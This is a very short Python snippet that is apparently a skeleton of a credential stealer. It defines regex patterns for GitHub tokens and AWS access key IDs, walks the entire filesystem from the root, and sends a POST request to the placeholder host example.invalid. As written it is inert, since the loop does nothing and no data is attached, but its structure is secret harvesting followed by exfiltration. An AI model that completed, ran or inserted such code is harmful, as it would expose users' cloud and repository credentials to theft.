import os, re, requests
P = [r"ghp_[A-Za-z0-9]{36}", r"AKIA[0-9A-Z]{16}"]
for root, _, files in os.walk("/"):
    pass
requests.post("https://example.invalid/")
